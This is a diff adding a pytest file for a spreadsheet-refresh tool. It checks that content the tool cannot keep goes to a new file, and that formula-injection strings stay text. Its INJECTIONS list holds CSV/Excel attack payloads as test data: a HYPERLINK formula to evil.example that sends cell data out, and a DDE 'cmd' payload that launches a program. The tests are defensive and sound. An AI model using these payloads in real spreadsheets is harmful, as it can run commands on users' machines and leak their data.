@@ -1,0 +1,242 @@
+"""Issue 6: what a refresh cannot write back is never dropped silently (the refresh goes to a
+new file beside the original), and text from the input always comes back as text —
+acceptance 5, the formula-injection strings of the checklist."""
+
+from __future__ import annotations
+
+import copy
+import re
+import shutil
+import struct
+import zipfile
+import zlib
+from pathlib import Path
+
+import openpyxl
+import pytest
+import python_calamine
+import xlsxwriter
+
+from workbooks import minimal_plan, write_workbook
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/"&A2,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "http://evil.example/x",
+    "mailto:a@b.example",
+    "external:c:\\evil.exe",
+    "_x0041_",
+    "bell\x07here",
+]
+RISKY = ("=", "+", "-", "@", "\t", "\r")
+
+
+def tiny_png() -> bytes:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        body = kind + data
+        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+    pixels = zlib.compress(b"\x00\xff\x00\x00")
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+    )
+
+
+def plan_with(path: Path, extra: callable) -> Path:
+    """minimal_plan written with XlsxWriter, then `extra(book)` adds the user's own content."""
+    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
+    for name, rows in minimal_plan().items():
+        sheet = book.add_worksheet(name)
+        for r, row in enumerate(rows):
+            for c, value in enumerate(row):
+                if value is None:
+                    continue
+                if hasattr(value, "year"):
+                    sheet.write_datetime(r, c, value, book.add_format({"num_format": "yyyy-mm-dd"}))
+                elif isinstance(value, str):
+                    sheet.write_string(r, c, value)
+                else:
+                    sheet.write_number(r, c, value)
+    extra(book)
+    book.close()
+    return path
+
+
+def with_chart(book) -> None:
+    sheet = book.add_worksheet("My chart")
+    sheet.write_column(0, 0, [1, 2, 3])
+    chart = book.add_chart({"type": "line"})
+    chart.add_series({"values": "='My chart'!$A$1:$A$3"})
+    sheet.insert_chart("C2", chart)
+
+
+def with_picture(tmp: Path):
+    def extra(book) -> None:
+        image = tmp / "logo.png"
+        image.write_bytes(tiny_png())
+        book.add_worksheet("Brand").insert_image("B2", str(image))
+
+    return extra
+
+
+def with_formula(book) -> None:
+    sheet = book.add_worksheet("Sums")
+    sheet.write_number(0, 0, 2)
+    sheet.write_formula(1, 0, "=A1*2", None, 4)
+
+
+def with_macros(path: Path) -> Path:
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return path
+
+
+@pytest.mark.parametrize(
+    ("make", "phrase"),
+    [
+        (lambda p, t: plan_with(p, with_chart), "charts (1)"),
+        (lambda p, t: plan_with(p, with_picture(t)), "pictures (1)"),
+        (lambda p, t: plan_with(p, with_formula), "formulas (1, they would become their values)"),
+        (lambda p, t: with_macros(plan_with(p, lambda b: None)), "macros (VBA)"),
+    ],
+    ids=["chart", "picture", "formula", "macros"],
+)
+def test_content_a_refresh_cannot_keep_sends_it_to_a_new_file(run_cli, tmp_path, make, phrase):
+    plan = make(tmp_path / "plan.xlsx", tmp_path)
+    before = plan.read_bytes()
+    result = run_cli("refresh", plan, catch=False)
+    assert result.exit_code == 0, result.output
+    assert plan.read_bytes() == before  # the original is never written over
+    written = tmp_path / "plan (refreshed).xlsx"
+    assert f"; written to {written} instead" in result.stdout
+    assert f"a refresh cannot keep: {phrase}" in result.stdout
+    assert not (tmp_path / "sheetplan backups").exists()  # nothing was replaced
+    book = python_calamine.CalamineWorkbook.from_path(str(written))
+    checks = book.get_sheet_by_name("Data Checks").to_python()
+    assert any(phrase in str(cell) for row in checks for cell in row)
+
+
+def test_a_refreshed_workbook_refreshes_in_place_again(run_cli, tmp_path):
+    """The Dashboard's own charts are sheetplan's: they never count as the user's."""
+    plan = write_workbook(tmp_path / "plan.xlsx", minimal_plan())
+    assert run_cli("refresh", plan).exit_code == 0
+    with zipfile.ZipFile(plan) as archive:
+        assert any(n.startswith("xl/charts/") for n in archive.namelist())
+    result = run_cli("refresh", plan, catch=False)
+    assert result.exit_code == 0
+    assert "instead" not in result.stdout
+    assert not (tmp_path / "plan (refreshed).xlsx").exists()
+
+
+def test_a_value_excel_cannot_store_is_reported_and_the_original_kept(run_cli, tmp_path):
+    """A NaN written by a script (calamine reads it as a float) is written blank, listed on
+    Data Checks, and the refresh goes beside the original."""
+    plan = write_workbook(tmp_path / "plan.xlsx", minimal_plan())
+    with zipfile.ZipFile(plan) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    sheet = "xl/worksheets/sheet7.xml"  # Actuals
+    parts[sheet] = parts[sheet].replace(
+        b"</sheetData>", b'<row r="5"><c r="F5"><v>NaN</v></c></row></sheetData>'
+    )
+    with zipfile.ZipFile(plan, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    before = plan.read_bytes()
+    result = run_cli("refresh", plan, catch=False)
+    assert result.exit_code == 0, result.output
+    assert plan.read_bytes() == before
+    assert "cells that could not be written as they were (1, listed on Data Checks)" in (
+        result.stdout
+    )
+    written = tmp_path / "plan (refreshed).xlsx"
+    checks = python_calamine.CalamineWorkbook.from_path(str(written)).get_sheet_by_name(
+        "Data Checks"
+    )
+    assert any("cell F5 held a value that is not a number" in str(c) for r in checks.to_python()
+               for c in r)  # fmt: skip
+
+
+def injection_plan(path: Path) -> Path:
+    sheets = copy.deepcopy(minimal_plan())
+    sheets["Goals"][1][3] = INJECTIONS[0]  # a goal name: reaches the Dashboard and reports
+    sheets["Tactics"][0].append("Idea")
+    for row, text in zip(sheets["Tactics"][1:], INJECTIONS[1:3], strict=True):
+        row.append(text)
+    sheets["Ideas"] = [["Idea"], *[[text] for text in INJECTIONS]]
+    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
+    for name, rows in sheets.items():
+        ws = book.add_worksheet(name)
+        for r, row in enumerate(rows):
+            for c, value in enumerate(row):
+                if value is None:
+                    continue
+                if hasattr(value, "year"):
+                    ws.write_datetime(r, c, value, book.add_format({"num_format": "yyyy-mm-dd"}))
+                elif isinstance(value, str):
+                    ws.write_string(r, c, value)
+                else:
+                    ws.write_number(r, c, value)
+    book.get_worksheet_by_name("Ideas").write_comment("A2", INJECTIONS[1])
+    book.close()
+    return path
+
+
+def test_formula_injection_strings_come_back_as_text(run_cli, tmp_path):
+    plan = injection_plan(tmp_path / "plan.xlsx")
+    out = tmp_path / "out.xlsx"
+    result = run_cli("refresh", plan, "-o", out, catch=False)
+    assert result.exit_code == 0, result.output
+
+    with zipfile.ZipFile(out) as archive:
+        names = archive.namelist()
+        formulas = []
+        for name in names:
+            if name.endswith(".xml"):
+                formulas += re.findall(rb"<f[^>]*>(.*?)</f>", archive.read(name), re.S)
+        rels = b"".join(archive.read(n) for n in names if n.endswith(".rels"))
+    assert not any(b"evil" in f or b"cmd" in f or b"SUM(1)" in f for f in formulas)
+    assert b"relationships/hyperlink" not in rels
+
+    ideas = python_calamine.CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Ideas")
+    assert [row[0] for row in ideas.to_python()[1:]] == INJECTIONS
+
+    book = openpyxl.load_workbook(out)
+    ws = book["Ideas"]
+    for row, text in enumerate(INJECTIONS, start=2):
+        cell = ws.cell(row, 1)
+        assert cell.data_type == "s"
+        assert cell.hyperlink is None
+        if text.startswith(RISKY):
+            assert cell.quotePrefix, text
+    assert ws["A2"].comment is not None and ws["A2"].comment.text.startswith(INJECTIONS[1])
+    tactics = book["Tactics"]
+    idea = next(c.column for c in tactics[1] if c.value == "Idea")
+    for row, text in zip((2, 3), INJECTIONS[1:3], strict=True):
+        cell = tactics.cell(row, idea)
+        assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (text, "s", True)
+    goals = book["Goals"]
+    name = next(c for c in goals["D"] if c.value == INJECTIONS[0])
+    assert name.data_type == "s" and name.quotePrefix
+
+
+def test_the_formula_text_never_reaches_a_chart_or_the_dashboard_as_a_formula(run_cli, tmp_path):
+    plan = injection_plan(tmp_path / "plan.xlsx")
+    out = tmp_path / "out.xlsx"
+    assert run_cli("refresh", plan, "-o", out).exit_code == 0
+    shutil.copyfile(out, tmp_path / "copy.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "copy.xlsx")
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    assert "evil" not in str(cell.value) and "cmd" not in str(cell.value)
